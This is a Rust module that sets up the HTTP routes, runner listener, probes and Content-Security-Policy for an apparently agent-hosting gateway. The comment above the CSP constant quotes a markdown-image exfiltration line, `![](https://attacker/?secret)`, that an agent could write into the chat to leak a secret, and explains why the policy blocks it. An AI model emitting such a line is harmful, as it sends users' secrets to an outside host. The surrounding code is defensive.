//! The HTTP surface: the REST API under `/api`, the mux WebSocket, `/metrics`, probes, and
//! the web UI with SPA fallback.

mod apply;
mod auth;
mod classes;
mod delegation;
mod objects;
mod schedules;
mod sessions;
pub mod usage;
mod users;
mod workspaces;
mod write_guard;

use std::path::Path;
use std::sync::Arc;

use axum::Json;
use axum::Router;
use axum::extract::State;
use axum::http::{HeaderValue, StatusCode, header};
use axum::response::{IntoResponse, Response};
use axum::routing::{delete, get, post, put};
use serde_json::{Value, json};
use tower_http::services::{ServeDir, ServeFile};
use tower_http::set_header::SetResponseHeaderLayer;
use utoipa::OpenApi;

use crate::error::ApiError;
use crate::state::AppState;

pub use users::Items;

#[derive(OpenApi)]
#[openapi(
    info(
        title = "Oqto gateway",
        description = "Accounts, workspaces, sessions and schedules. Errors are `{error, code, details?}`; the mux WebSocket is `GET /api/ws/mux`."
    ),
    paths(
        health,
        auth::login,
        auth::logout,
        auth::me,
        auth::bootstrap,
        users::list,
        users::get,
        users::create,
        users::delete,
        users::update,
        users::reset_password,
        users::change_password,
        users::list_keys,
        users::create_key,
        users::revoke_key,
        classes::list,
        classes::delete,
        workspaces::list,
        workspaces::create,
        workspaces::get,
        workspaces::delete,
        sessions::list,
        sessions::list_all,
        sessions::update,
        sessions::create,
        sessions::get,
        sessions::delete,
        sessions::suspend,
        sessions::resume,
        schedules::list_all,
        schedules::list,
        schedules::create,
        schedules::get,
        schedules::update,
        schedules::delete,
        delegation::start_child,
        delegation::suspend_child,
        apply::apply,
        usage::mine,
        usage::all,
    )
)]
pub struct ApiDoc;

pub fn router(state: Arc<AppState>, ui_dir: &Path) -> Router {
    let api = Router::new()
        .route("/health", get(health))
        .route("/openapi.json", get(openapi))
        .route("/auth/login", post(auth::login))
        .route("/auth/logout", post(auth::logout))
        .route("/auth/me", get(auth::me))
        .route("/auth/bootstrap", post(auth::bootstrap))
        .route("/users", get(users::list).post(users::create))
        .route("/auth/password", put(users::change_password))
        .route(
            "/users/{username}",
            get(users::get).delete(users::delete).patch(users::update),
        )
        .route("/users/{username}/password", put(users::reset_password))
        .route("/keys", get(users::list_keys).post(users::create_key))
        .route("/keys/{id}", delete(users::revoke_key))
        .route("/workspaceclasses", get(classes::list))
        .route("/workspaceclasses/{class}", delete(classes::delete))
        .route(
            "/workspaces",
            get(workspaces::list).post(workspaces::create),
        )
        .route(
            "/workspaces/{workspace}",
            get(workspaces::get).delete(workspaces::delete),
        )
        .route(
            "/workspaces/{workspace}/sessions",
            get(sessions::list).post(sessions::create),
        )
        .route("/sessions", get(sessions::list_all))
        .route("/delegation/children", post(delegation::start_child))
        .route(
            "/delegation/children/{child}/suspend",
            post(delegation::suspend_child),
        )
        .route(
            "/workspaces/{workspace}/sessions/{session}",
            get(sessions::get)
                .patch(sessions::update)
                .delete(sessions::delete),
        )
        .route(
            "/workspaces/{workspace}/sessions/{session}/suspend",
            post(sessions::suspend),
        )
        .route(
            "/workspaces/{workspace}/sessions/{session}/resume",
            post(sessions::resume),
        )
        .route("/schedules", get(schedules::list_all))
        .route(
            "/workspaces/{workspace}/schedules",
            get(schedules::list).post(schedules::create),
        )
        .route(
            "/workspaces/{workspace}/schedules/{schedule}",
            get(schedules::get)
                .patch(schedules::update)
                .delete(schedules::delete),
        )
        .route("/apply", post(apply::apply))
        .route("/usage", get(usage::mine))
        .route("/admin/usage", get(usage::all))
        .route("/ws/mux", get(crate::mux::upgrade))
        .fallback(api_not_found)
        .layer(axum::middleware::from_fn_with_state(
            state.clone(),
            write_guard::check,
        ));
    let mut app = Router::new()
        .nest("/api", api)
        .route("/metrics", get(metrics))
        .route("/healthz", get(|| async { "ok" }))
        .route("/readyz", get(readyz));
    if ui_dir.is_dir() {
        // Client-side routes (/sessions/…) get index.html; real files are served as they are.
        let index = ServeFile::new(ui_dir.join("index.html"));
        app = app.fallback_service(ServeDir::new(ui_dir).fallback(index));
    } else {
        app = app.fallback(no_ui);
    }
    app.layer(SetResponseHeaderLayer::if_not_present(
        header::CONTENT_SECURITY_POLICY,
        HeaderValue::from_static(CONTENT_SECURITY_POLICY),
    ))
    .layer(SetResponseHeaderLayer::if_not_present(
        header::X_CONTENT_TYPE_OPTIONS,
        HeaderValue::from_static("nosniff"),
    ))
    .layer(SetResponseHeaderLayer::if_not_present(
        header::REFERRER_POLICY,
        HeaderValue::from_static("no-referrer"),
    ))
    .with_state(state)
}

/// What runners reach on `--runner-listen`: starting and suspending their Session's children,
/// and the mux for those children's agent frames; each answers only a session credential.
/// Nothing a user reaches is served here, so the listener may face the runners' network.
pub fn runner_router(state: Arc<AppState>) -> Router {
    let api = Router::new()
        .route("/delegation/children", post(delegation::start_child))
        .route(
            "/delegation/children/{child}/suspend",
            post(delegation::suspend_child),
        )
        .route("/ws/mux", get(crate::mux::upgrade_runner))
        .fallback(api_not_found);
    Router::new()
        .nest("/api", api)
        .route("/healthz", get(|| async { "ok" }))
        .with_state(state)
}

/// What the UI may load: its own scripts and styles, images only from itself (an agent that
/// writes `![](https://attacker/?secret)` into the chat cannot make the browser send data
/// anywhere), connections only to the gateway, no framing of the UI, no plugins. Inline styles are
/// allowed for the terminal, which sets its own. Frames only of `blob:` URLs, which only the UI's
/// own scripts create: the Files tab shows a PDF as a blob typed `application/pdf` in a frame (the
/// browser's PDF viewer; `frame-src` would otherwise fall back to `default-src 'self'`, which
/// does not match `blob:`). Nothing may frame the UI itself (`frame-ancestors`).
pub const CONTENT_SECURITY_POLICY: &str = "default-src 'self'; script-src 'self'; \
    style-src 'self' 'unsafe-inline'; img-src 'self' data: blob:; connect-src 'self'; \
    font-src 'self' data:; object-src 'none'; frame-src blob:; base-uri 'none'; \
    form-action 'self'; frame-ancestors 'none'";

#[utoipa::path(get, path = "/api/health", tag = "health", responses((status = 200)))]
async fn health() -> Json<Value> {
    Json(json!({ "status": "ok", "version": env!("CARGO_PKG_VERSION") }))
}

async fn openapi() -> Json<utoipa::openapi::OpenApi> {
    Json(ApiDoc::openapi())
}

async fn readyz(State(state): State<Arc<AppState>>) -> Response {
    if state.routes.is_synced() {
        (StatusCode::OK, "ready").into_response()
    } else {
        (
            StatusCode::SERVICE_UNAVAILABLE,
            "the session table is not synced yet",
        )
            .into_response()
    }
}

async fn metrics(State(state): State<Arc<AppState>>) -> Response {
    (
        [(
            "content-type",
            "application/openmetrics-text; version=1.0.0; charset=utf-8",
        )],
        state.metrics.encode(),
    )
        .into_response()
}

async fn api_not_found() -> ApiError {
    ApiError::NotFound("no such API route".into())
}

async fn no_ui() -> Response {
    (
        StatusCode::NOT_FOUND,
        "the web UI is not installed here (build frontend/ or set --ui-dir); the API is under /api",
    )
        .into_response()
}
